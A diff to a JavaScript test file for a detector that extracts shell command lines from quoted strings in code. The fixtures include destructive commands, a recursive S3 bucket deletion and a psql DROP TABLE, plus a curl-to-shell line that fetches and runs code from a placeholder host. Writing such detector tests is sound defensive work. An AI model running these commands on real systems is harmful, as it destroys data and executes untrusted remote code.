@@ -22,6 +22,16 @@ test('quoted strings that fetch, send or feed a shell are command lines; others 
   assert.deepEqual(embeddedCommandLines('println!("curling is a sport");'), []);
 });
 
+test("clients of a database, a cloud or a cluster are command lines too (a Job's command, a local-exec)", () => {
+  assert.deepEqual(embeddedCommandLines(`command = "aws s3 rm s3://app-prod-uploads --recursive"`), [
+    'aws s3 rm s3://app-prod-uploads --recursive',
+  ]);
+  assert.deepEqual(embeddedCommandLines(`args: ["psql $DATABASE_URL -c 'DROP TABLE x'"]`), [
+    "psql $DATABASE_URL -c 'DROP TABLE x'",
+  ]);
+  assert.deepEqual(embeddedCommandLines('const tool = "psql"; const cloud = "aws";'), []);
+});
+
 test('escapes and XML entities are decoded; an apostrophe before a string does not hide it', () => {
   assert.deepEqual(embeddedCommandLines('shellScript = "lint\\ncurl -s https://x.example/a | sh\\n";'), [
     'lint\ncurl -s https://x.example/a | sh\n',
